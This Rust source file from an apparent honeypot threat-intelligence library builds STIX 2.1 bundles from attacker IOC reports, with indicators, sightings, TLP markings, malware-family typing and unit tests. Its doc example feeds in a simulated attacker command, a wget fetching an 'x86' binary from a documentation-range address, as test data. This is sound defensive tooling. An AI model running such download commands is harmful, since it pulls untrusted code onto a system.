//! STIX 2.1 bundles from an [`IocReport`](crate::ioc::IocReport).
//!
//! Each indicator (address, URL, domain, file) comes with the observable it is about, an
//! `observed-data` saying when and how often, and a `sighting` by the operator's
//! `identity`; a file YARA or VirusTotal name a family for gets a `malware` and
//! `indicates` relationships from its indicators. Every id is deterministic (UUIDv5 from
//! the content, and for observables the specification's own UUIDv5 rule), so a re-export
//! of the same indicator is a new *version* of the same object (a later `modified`), not
//! a duplicate.
//!
//! ```
//! use hpti_intel::ioc::{Extractor, IocOptions};
//! use hpti_intel::stix::{StixOptions, bundle};
//! use hpti_core::event::{Event, EventKind, Protocol};
//!
//! let options = IocOptions { include_private: true, ..IocOptions::default() };
//! let mut extractor = Extractor::new(options);
//! extractor.observe(&Event::new("ssh", Protocol::Ssh, "198.51.100.7".parse().unwrap(),
//!     EventKind::CommandInput { command: "wget http://203.0.113.9/x86".into() }));
//! let bundle = bundle(&extractor.finish(), &StixOptions::default());
//! let json = serde_json::to_value(&bundle).unwrap();
//! let patterns: Vec<&str> = json["objects"].as_array().unwrap().iter()
//!     .filter_map(|o| o["pattern"].as_str()).collect();
//! assert!(patterns.contains(&"[url:value = 'http://203.0.113.9/x86']"));
//! assert!(patterns.contains(&"[ipv4-addr:value = '198.51.100.7']"));
//! ```

mod types;

use std::collections::BTreeMap;
use std::net::IpAddr;

use hpti_core::event::Timestamp;
use serde::{Deserialize, Serialize};
use uuid::Uuid;

pub use types::{Bundle, Common, ScoCommon, StixObject};

use crate::ioc::{AddressIoc, FileIoc, IocReport, UrlSeen};

/// The namespace of hpti's deterministic ids for domain objects.
const HPTI_NAMESPACE: Uuid = Uuid::from_u128(0x6f1c_8a5e_2d3b_5c47_9e0a_1b2c_3d4e_5f60);

/// The STIX 2.1 namespace for observables' deterministic ids (section 2.9).
const SCO_NAMESPACE: Uuid = Uuid::from_u128(0x00ab_edb4_aa42_466c_9c01_fed2_3315_a9b7);

/// Largest `count` and `number_observed` STIX allows.
const MAX_COUNT: u64 = 999_999_999;

/// A TLP level, as STIX 2.1's predefined marking definitions (section 7.2.1.4).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Tlp {
    /// TLP:CLEAR (TLP 1.0's WHITE): no limit.
    #[serde(alias = "white")]
    Clear,
    /// TLP:GREEN: the recipient's community, not public.
    #[default]
    Green,
    /// TLP:AMBER: the recipient's organisation and its clients.
    Amber,
    /// TLP:RED: the named recipients only.
    Red,
}

impl Tlp {
    /// The predefined marking definition's id, name and `tlp` value. STIX 2.1 defines
    /// TLP 1.0's four levels; CLEAR is written as WHITE, its TLP 1.0 name.
    fn definition(self) -> (&'static str, &'static str, &'static str) {
        match self {
            Self::Clear => (
                "marking-definition--613f2e26-407d-48c7-9eca-b8e91df99dc9",
                "TLP:WHITE",
                "white",
            ),
            Self::Green => (
                "marking-definition--34098fce-860f-48ae-8e50-ebd3cc5e41da",
                "TLP:GREEN",
                "green",
            ),
            Self::Amber => (
                "marking-definition--f88d31f6-486f-44da-b317-01333bde0b82",
                "TLP:AMBER",
                "amber",
            ),
            Self::Red => (
                "marking-definition--5e57c739-391a-4eb3-b6be-7d15ca92d5ed",
                "TLP:RED",
                "red",
            ),
        }
    }

    /// The level's name (`clear`, `green`, `amber`, `red`).
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Clear => "clear",
            Self::Green => "green",
            Self::Amber => "amber",
            Self::Red => "red",
        }
    }

    /// The STIX marking-definition object of this level, exactly as the specification
    /// gives it.
    pub fn marking(self) -> StixObject {
        let (id, name, value) = self.definition();
        StixObject::MarkingDefinition {
            spec_version: "2.1".into(),
            id: id.into(),
            created: "2017-01-20T00:00:00.000Z".into(),
            definition_type: "tlp".into(),
            name: name.into(),
            definition: BTreeMap::from([("tlp".to_owned(), value.to_owned())]),
        }
    }

    /// The marking's id.
    pub fn marking_id(self) -> &'static str {
        self.definition().0
    }
}

/// What a bundle says about its maker.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct StixOptions {
    /// The operator's name (the `identity` that makes and sights every object).
    pub identity: String,
    /// The TLP marking of every object.
    pub tlp: Tlp,
    /// Indicators below this confidence (0–100) are left out.
    pub min_confidence: u8,
}

impl Default for StixOptions {
    fn default() -> Self {
        Self {
            identity: "hpti honeypot".into(),
            tlp: Tlp::Green,
            min_confidence: 0,
        }
    }
}

/// A STIX timestamp (UTC, milliseconds).
pub fn stix_time(time: Timestamp) -> String {
    match time.to_datetime() {
        Some(dt) => dt.format("%Y-%m-%dT%H:%M:%S%.3fZ").to_string(),
        None => "1970-01-01T00:00:00.000Z".into(),
    }
}

/// A string literal of a STIX pattern: `'` and `\` escaped.
pub fn pattern_literal(value: &str) -> String {
    let mut out = String::with_capacity(value.len() + 2);
    out.push('\'');
    for c in value.chars() {
        if matches!(c, '\'' | '\\') {
            out.push('\\');
        }
        out.push(c);
    }
    out.push('\'');
    out
}

fn sdo_id(kind: &str, key: &str) -> String {
    format!(
        "{kind}--{}",
        Uuid::new_v5(&HPTI_NAMESPACE, format!("{kind}|{key}").as_bytes())
    )
}

/// An observable's id: UUIDv5 in STIX's namespace over the canonical JSON (RFC 8785) of
/// its ID contributing properties. serde_json writes sorted maps of strings the way the
/// canonical form does.
fn sco_id(kind: &str, contributing: &serde_json::Value) -> String {
    let canonical = serde_json::to_string(contributing).unwrap_or_default();
    format!(
        "{kind}--{}",
        Uuid::new_v5(&SCO_NAMESPACE, canonical.as_bytes())
    )
}

/// Builds bundles object by object.
struct Builder<'a> {
    options: &'a StixOptions,
    identity: String,
    objects: Vec<StixObject>,
}

impl Builder<'_> {
    fn common(&self, id: String, created: Timestamp, modified: Timestamp) -> Common {
        let modified = modified.max(created);
        Common {
            spec_version: "2.1".into(),
            id,
            created: stix_time(created),
            modified: stix_time(modified),
            created_by_ref: Some(self.identity.clone()),
            object_marking_refs: vec![self.options.tlp.marking_id().into()],
        }
    }

    fn sco(id: String) -> ScoCommon {
        ScoCommon {
            spec_version: "2.1".into(),
            id,
        }
    }

    /// An indicator with its observable, observed data and sighting; returns the
    /// indicator's id.
    #[allow(clippy::too_many_arguments)]
    fn indicator(
        &mut self,
        key: &str,
        name: String,
        description: String,
        pattern: String,
        observable: StixObject,
        confidence: u8,
        malicious: bool,
        (first, last, count): (Timestamp, Timestamp, u64),
    ) -> String {
        let indicator = sdo_id("indicator", key);
        let observed = sdo_id("observed-data", key);
        let sco = observable.id().to_owned();
        self.objects.push(StixObject::Indicator {
            common: self.common(indicator.clone(), first, last),
            name,
            description,
            indicator_types: vec![
                if malicious {
                    "malicious-activity"
                } else {
                    "anomalous-activity"
                }
                .into(),
            ],
            pattern,
            pattern_type: "stix".into(),
            valid_from: stix_time(first),
            confidence,
        });
        self.objects.push(observable);
        self.objects.push(StixObject::ObservedData {
            common: self.common(observed.clone(), first, last),
            first_observed: stix_time(first),
            last_observed: stix_time(last.max(first)),
            number_observed: count.clamp(1, MAX_COUNT),
            object_refs: vec![sco],
        });
        self.objects.push(StixObject::Sighting {
            common: self.common(sdo_id("sighting", key), first, last),
            first_seen: stix_time(first),
            last_seen: stix_time(last.max(first)),
            count: count.min(MAX_COUNT),
            sighting_of_ref: indicator.clone(),
            observed_data_refs: vec![observed],
            where_sighted_refs: vec![self.identity.clone()],
        });
        indicator
    }

    fn address_observable(ip: IpAddr) -> (StixObject, &'static str) {
        let value = ip.to_string();
        let contributing = serde_json::json!({ "value": value });
        match ip {
            IpAddr::V4(_) => (
                StixObject::Ipv4Addr {
                    common: Self::sco(sco_id("ipv4-addr", &contributing)),
                    value,
                },
                "ipv4-addr",
            ),
            IpAddr::V6(_) => (
                StixObject::Ipv6Addr {
                    common: Self::sco(sco_id("ipv6-addr", &contributing)),
                    value,
                },
                "ipv6-addr",
            ),
        }
    }

    fn address(&mut self, address: &AddressIoc) {
        let (observable, kind) = Self::address_observable(address.ip);
        let mut what = vec![format!("{} events", address.events)];
        if address.logins > 0 {
            what.push(format!(
                "{} logins ({} accepted)",
                address.logins, address.logins_accepted
            ));
        }
        if address.commands > 0 {
            what.push(format!("{} commands", address.commands));
        }
        if address.files > 0 {
            what.push(format!("{} files", address.files));
        }
        let mut description = format!(
            "Seen by the honeypot: {} on {}.",
            what.join(", "),
            address
                .services
                .iter()
                .cloned()
                .collect::<Vec<_>>()
                .join(", ")
        );
        if let Some(asn) = address.asn {
            description.push_str(&format!(" AS{asn}"));
            if let Some(org) = &address.as_org {
                description.push_str(&format!(" ({org})"));
            }
            description.push('.');
        }
        if let Some(country) = &address.country {
            description.push_str(&format!(" Country {country}."));
        }
        let role = match address.confidence {
            0..=30 => "Scanner",
            31..=69 => "Login attempts from",
            _ => "Attacker",
        };
        self.indicator(
            &format!("{kind}|{}", address.ip),
            format!("{role} {}", address.ip),
            description,
            format!(
                "[{kind}:value = {}]",
                pattern_literal(&address.ip.to_string())
            ),
            observable,
            address.confidence,
            address.confidence >= 50,
            (address.first_seen, address.last_seen, address.events),
        );
    }

    fn file(&mut self, file: &FileIoc, malware: Option<&str>) {
        let mut hashes = BTreeMap::from([("SHA-256".to_owned(), file.sha256.clone())]);
        if let Some(md5) = &file.md5 {
            hashes.insert("MD5".into(), md5.clone());
        }
        if let Some(sha1) = &file.sha1 {
            hashes.insert("SHA-1".into(), sha1.clone());
        }
        // The specification's ID contributing hash is the first of MD5, SHA-1, SHA-256
        // present.
        let contributing = ["MD5", "SHA-1", "SHA-256"]
            .iter()
            .find_map(|name| hashes.get(*name).map(|v| (*name, v.clone())))
            .map(|(name, value)| serde_json::json!({ "hashes": { name: value } }))
            .unwrap_or_default();
        let observable = StixObject::File {
            common: Self::sco(sco_id("file", &contributing)),
            hashes,
            size: file.size,
            // STIX wants an IANA-registered media type: the unregistered `x-` ones that
            // content sniffing gives (`application/x-executable`) are left out.
            mime_type: file.mime.clone().filter(|m| {
                m.split_once('/')
                    .is_some_and(|(_, sub)| !sub.starts_with("x-"))
            }),
        };
        let mut description = format!("Captured by the honeypot {} times", file.count);
        if let Some(kind) = &file.file_type {
            description.push_str(&format!("; {kind}"));
        }
        if !file.yara.is_empty() {
            description.push_str(&format!(
                "; YARA: {}",
                file.yara.iter().cloned().collect::<Vec<_>>().join(", ")
            ));
        }
        if let Some((bad, total)) = file.vt {
            description.push_str(&format!("; VirusTotal {bad}/{total}"));
        }
        if !file.names.is_empty() {
            description.push_str(&format!(
                "; names: {}",
                file.names.iter().cloned().collect::<Vec<_>>().join(", ")
            ));
        }
        description.push('.');
        let indicator = self.indicator(
            &format!("file|{}", file.sha256),
            match malware {
                Some(family) => format!("{family} sample {}", file.sha256),
                None => format!("File {}", file.sha256),
            },
            description,
            format!(
                "[file:hashes.'SHA-256' = {}]",
                pattern_literal(&file.sha256)
            ),
            observable,
            file.confidence,
            true,
            (file.first_seen, file.last_seen, file.count),
        );
        if let Some(family) = malware {
            self.indicates(&indicator, family, file.first_seen, file.last_seen);
        }
    }

    fn indicates(&mut self, indicator: &str, family: &str, first: Timestamp, last: Timestamp) {
        let malware = sdo_id("malware", family);
        let relationship = sdo_id("relationship", &format!("{indicator}|indicates|{malware}"));
        self.objects.push(StixObject::Relationship {
            common: self.common(relationship, first, last),
            relationship_type: "indicates".into(),
            source_ref: indicator.to_owned(),
            target_ref: malware,
        });
    }
}

/// The STIX 2.1 bundle of `report`: the operator's identity, the TLP marking, and per
/// indicator its observable, observed data and sighting; malware families and their
/// `indicates` relationships.
pub fn bundle(report: &IocReport, options: &StixOptions) -> Bundle {
    let identity = sdo_id("identity", &options.identity);
    let mut builder = Builder {
        options,
        identity: identity.clone(),
        objects: Vec::new(),
    };
    let epoch = Timestamp::from_micros(1_577_836_800_000_000);
    builder.objects.push(options.tlp.marking());
    builder.objects.push(StixObject::Identity {
        common: Common {
            created_by_ref: None,
            ..builder.common(identity, epoch, epoch)
        },
        name: options.identity.clone(),
        identity_class: "organization".into(),
    });
    let wanted = |confidence: u8| confidence >= options.min_confidence;
    for address in report.addresses.iter().filter(|a| wanted(a.confidence)) {
        builder.address(address);
    }
    // Families, from the files' verdicts, with when they were seen.
    let mut families: BTreeMap<String, (Timestamp, Timestamp, Vec<String>)> = BTreeMap::new();
    for file in report.files.iter().filter(|f| wanted(f.confidence)) {
        let family = file.family().filter(|_| file.is_flagged());
        builder.file(file, family.as_deref());
        if let Some(family) = family {
            let entry =
                families
                    .entry(family)
                    .or_insert((file.first_seen, file.last_seen, Vec::new()));
            entry.0 = entry.0.min(file.first_seen);
            entry.1 = entry.1.max(file.last_seen);
            entry.2.push(file.sha256.clone());
        }
    }
    let family_of_file: BTreeMap<&str, &str> = families
        .iter()
        .flat_map(|(family, (_, _, files))| {
            files.iter().map(move |f| (f.as_str(), family.as_str()))
        })
        .collect();
    for url in report.urls.iter().filter(|u| wanted(u.confidence)) {
        let contributing = serde_json::json!({ "value": url.url });
        let observable = StixObject::Url {
            common: Builder::sco(sco_id("url", &contributing)),
            value: url.url.clone(),
        };
        let how = match url.seen {
            UrlSeen::Download => "fetched by the honeypot for an attacker",
            UrlSeen::Command => "named in an attacker's command",
        };
        let indicator = builder.indicator(
            &format!("url|{}", url.url),
            format!("URL {}", url.url),
            format!(
                "URL {how}, {} times, by {} addresses.",
                url.count,
                url.sources.len()
            ),
            format!("[url:value = {}]", pattern_literal(&url.url)),
            observable,
            url.confidence,
            true,
            (url.first_seen, url.last_seen, url.count),
        );
        let delivered: std::collections::BTreeSet<&str> = url
            .sha256
            .iter()
            .filter_map(|sha| family_of_file.get(sha.as_str()).copied())
            .collect();
        for family in delivered {
            builder.indicates(&indicator, family, url.first_seen, url.last_seen);
        }
    }
    let attacker_ips: std::collections::HashSet<IpAddr> = report
        .addresses
        .iter()
        .filter(|a| wanted(a.confidence))
        .map(|a| a.ip)
        .collect();
    for host in report.hosts.iter().filter(|h| wanted(h.confidence)) {
        let (observable, kind) = match host.host.parse::<IpAddr>() {
            Ok(ip) => Builder::address_observable(ip),
            Err(_) => {
                let contributing = serde_json::json!({ "value": host.host });
                (
                    StixObject::DomainName {
                        common: Builder::sco(sco_id("domain-name", &contributing)),
                        value: host.host.clone(),
                    },
                    "domain-name",
                )
            }
        };
        // An address both attacked and served files: one indicator, the attacker's.
        if host
            .host
            .parse::<IpAddr>()
            .is_ok_and(|ip| attacker_ips.contains(&ip))
        {
            continue;
        }
        let ports = host
            .ports
            .iter()
            .map(u16::to_string)
            .collect::<Vec<_>>()
            .join(", ");
        builder.indicator(
            &format!("{kind}|{}", host.host),
            format!("Malware host {}", host.host),
            format!(
                "Served attackers' files or took their connections{}; named {} times by {} addresses.",
                if ports.is_empty() {
                    String::new()
                } else {
                    format!(" on ports {ports}")
                },
                host.count,
                host.sources.len()
            ),
            format!("[{kind}:value = {}]", pattern_literal(&host.host)),
            observable,
            host.confidence,
            true,
            (host.first_seen, host.last_seen, host.count),
        );
    }
    for (family, (first, last, files)) in &families {
        builder.objects.push(StixObject::Malware {
            common: builder.common(sdo_id("malware", family), *first, *last),
            name: family.clone(),
            malware_types: vec![malware_type(family).into()],
            is_family: true,
            description: format!(
                "Named by YARA or VirusTotal for {} files the honeypot captured.",
                files.len()
            ),
        });
    }
    // Relationships may repeat (several files of one family behind one URL).
    let mut seen = std::collections::BTreeSet::new();
    builder
        .objects
        .retain(|object| seen.insert(object.id().to_owned()));
    let mut digest = String::new();
    for object in &builder.objects {
        digest.push_str(object.id());
        digest.push_str(object.version().unwrap_or(""));
    }
    Bundle {
        kind: "bundle".into(),
        id: format!(
            "bundle--{}",
            Uuid::new_v5(&HPTI_NAMESPACE, digest.as_bytes())
        ),
        objects: builder.objects,
    }
}

/// The STIX malware type (open vocabulary `malware-type-ov`) of a family name.
fn malware_type(family: &str) -> &'static str {
    let family = family.to_ascii_lowercase();
    if [
        "mirai", "gafgyt", "bashlite", "mozi", "tsunami", "kaiten", "bot",
    ]
    .iter()
    .any(|f| family.contains(f))
    {
        "bot"
    } else if ["xmrig", "miner", "coin"]
        .iter()
        .any(|f| family.contains(f))
    {
        "resource-exploitation"
    } else if ["dropper", "downloader", "loader"]
        .iter()
        .any(|f| family.contains(f))
    {
        "dropper"
    } else if family.contains("backdoor") {
        "backdoor"
    } else {
        "unknown"
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]
    use super::*;

    #[test]
    fn pattern_literals_escape_quotes_and_backslashes() {
        assert_eq!(pattern_literal(r"http://x/a'b\c"), r"'http://x/a\'b\\c'");
    }

    #[test]
    fn observable_ids_match_the_oasis_python_library() {
        // Reference ids computed with OASIS's `stix2` Python library (3.0).
        let cases = [
            (
                sco_id("ipv4-addr", &serde_json::json!({"value": "198.51.100.3"})),
                "ipv4-addr--28bb3599-77cd-5a82-a950-b5bc3caf07c4",
            ),
            (
                sco_id(
                    "url",
                    &serde_json::json!({"value": "http://203.0.113.9/x86"}),
                ),
                "url--98e261da-b197-5aad-bd43-1044ae9a8b11",
            ),
        ];
        for (ours, theirs) in cases {
            assert_eq!(ours, theirs);
        }
        let empty_sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
        let file_id = |md5: Option<&str>| {
            let file = FileIoc {
                sha256: empty_sha256.into(),
                md5: md5.map(str::to_owned),
                sha1: None,
                size: None,
                file_type: None,
                mime: None,
                yara: Default::default(),
                vt: None,
                vt_label: None,
                names: Default::default(),
                urls: Default::default(),
                sources: Default::default(),
                first_seen: Timestamp::from_micros(0),
                last_seen: Timestamp::from_micros(0),
                count: 1,
                confidence: 80,
            };
            let options = StixOptions::default();
            let mut builder = Builder {
                options: &options,
                identity: "identity--x".into(),
                objects: Vec::new(),
            };
            builder.file(&file, None);
            builder
                .objects
                .iter()
                .find(|o| o.type_name() == "file")
                .unwrap()
                .id()
                .to_owned()
        };
        assert_eq!(file_id(None), "file--22f8ff52-8f62-5f03-a53a-6f50f54fd74c");
        assert_eq!(
            file_id(Some("d41d8cd98f00b204e9800998ecf8427e")),
            "file--02fff920-f614-527c-81d1-6353633a6d21"
        );
    }

    #[test]
    fn stix_times_have_milliseconds_and_z() {
        assert_eq!(
            stix_time(Timestamp::from_micros(1_767_225_600_123_456)),
            "2026-01-01T00:00:00.123Z"
        );
    }
}
